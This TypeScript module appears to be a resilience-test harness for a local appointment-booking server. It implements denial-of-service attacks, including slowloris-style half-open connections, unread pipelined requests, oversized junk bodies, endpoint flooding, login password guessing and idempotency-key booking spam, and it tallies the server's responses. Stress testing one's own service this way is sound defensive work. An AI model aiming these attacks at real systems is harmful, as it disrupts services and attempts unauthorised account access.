import { Agent, type OutgoingHttpHeaders, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'

/** Limit of requests per attack. */
const MAX_SENT = 20_000

/** The target of an attack, and its end. */
export interface Target {
  origin: string
  /** The attacker's IP address, used by nobody else. */
  from: string
  /** An anti-forgery (CSRF) token, which anybody can get. */
  token: string
  /** The address of a large file. */
  file: string
  /** In ms since the epoch. */
  until: number
}

/** Number of requests sent, and of answers by status; `none` when the connection ended without an answer. */
export interface Tally {
  sent: number
  answers: Record<string, number>
}

type Attack = (target: Target, tally: Tally) => Promise<unknown>

/** Attacks that a single address can mount cheaply. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'requests sent ahead, nothing read': (target, tally) =>
    many(10, target, tally, () => sendAhead(target, tally, 'GET / HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(2000))),
  'large files, nothing read': (target, tally) =>
    many(200, target, tally, () => sendAhead(target, tally, `GET ${target.file} HTTP/1.1\r\nHost: a\r\n\r\n`)),
  'many connections': (target, tally) => many(1000, target, tally, () => sendAhead(target, tally, 'GET / HTTP/1.1\r\nHost: a\r\nX: ')),
  'bodies of 198 KB with wrong fields': (target, tally) =>
    many(16, target, tally, agent => post(target, tally, agent, '/api/v1/appointments', WRONG)),
  'free times': (target, tally) =>
    many(16, target, tally, agent => {
      const day = new Date(Date.UTC(2027, 0, 1 + (tally.sent % 300))).toISOString().slice(0, 10)
      return ask(target, tally, agent, `/api/v1/services/slots?date=${day}&duration=60`)
    }),
  'pages that are not there': (target, tally) =>
    many(32, target, tally, agent => ask(target, tally, agent, `/nowhere-${tally.sent}`, { headers: { accept: 'text/html' } })),
  'guesses of a password': (target, tally) =>
    many(16, target, tally, agent =>
      post(target, tally, agent, '/api/v1/auth/login', JSON.stringify({ username: `owner${tally.sent}`, password: 'a guess that is long enough' })),
    ),
  'bookings with a new key each': (target, tally) =>
    many(16, target, tally, agent =>
      post(target, tally, agent, '/api/v1/appointments', bookingBody(tally.sent), { 'idempotency-key': `attack-${tally.sent}-${Date.now()}` }),
    ),
}

const WRONG = JSON.stringify(Object.fromEntries(Array.from({ length: 14_000 }, (_, index) => [`wrong${index}`, 1])))
  .slice(0, 197_000)
  .replace(/,"[^,]*$/, '}')

/** A booking body on a day of its own, where no victim books. */
function bookingBody(number: number): string {
  return JSON.stringify({
    name: 'Al Attack',
    email: `attack${number}@example.com`,
    vehicle_category: 'Motorcycle',
    motorcycle_package: 'motorcycle-standard-detail',
    appointment_date: new Date(Date.UTC(2040, 0, 1 + (number % 9000))).toISOString().slice(0, 10),
    appointment_time: '10:00',
  })
}

/** Repeats a request on several connections in parallel until the attack is over. */
async function many(connections: number, { until, from }: Target, tally: Tally, once: (agent: Agent) => Promise<unknown>): Promise<void> {
  const agent = new Agent({ keepAlive: true, maxSockets: connections, localAddress: from })
  const again = async () => {
    while (Date.now() < until && tally.sent < MAX_SENT) await once(agent)
  }
  await Promise.all(Array.from({ length: connections }, again))
  agent.destroy()
}

/** Sends a text over a new connection and reads nothing, until the server closes it or the attack is over. */
async function sendAhead({ origin, from, until }: Target, tally: Tally, text: string): Promise<void> {
  tally.sent++
  const socket = connect({ port: Number(new URL(origin).port), host: '127.0.0.1', localAddress: from }).pause()
  const isOver = new Promise<void>(resolve => socket.once('close', () => resolve()))
  socket.on('error', () => undefined)
  socket.write(text)
  // A client that does not read notices the close only by writing.
  const drip = setInterval(() => dripOn(socket), 200)
  await Promise.race([isOver, pause(Math.max(until - Date.now(), 0))])
  clearInterval(drip)
  tally.answers['none'] = (tally.answers['none'] ?? 0) + (socket.destroyed ? 1 : 0)
  socket.destroy()
  await pause(10)
}

function dripOn(socket: Socket): void {
  if (socket.writable) socket.write('a')
}

function post(target: Target, tally: Tally, agent: Agent, path: string, body: string, headers: OutgoingHttpHeaders = {}): Promise<void> {
  const all = { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body), 'x-csrf-token': target.token, ...headers }
  return ask(target, tally, agent, path, { method: 'POST', headers: all, body })
}

interface Asked {
  method?: string
  headers?: OutgoingHttpHeaders
  body?: string
}

async function ask(
  { origin }: Target,
  tally: Tally,
  agent: Agent,
  path: string,
  { method = 'GET', headers = {}, body = '' }: Asked = {},
): Promise<void> {
  tally.sent++
  const status = await new Promise<string>(resolve => {
    const sent = request(origin + path, { agent, method, headers }, answer => {
      answer.resume().on('error', () => resolve('none'))
      answer.on('end', () => resolve(String(answer.statusCode)))
    })
    sent.on('error', () => resolve('none')).end(body)
  })
  tally.answers[status] = (tally.answers[status] ?? 0) + 1
  // Reconnect almost at once after a cut, but not in a busy loop.
  if (status === 'none') await pause(10)
}
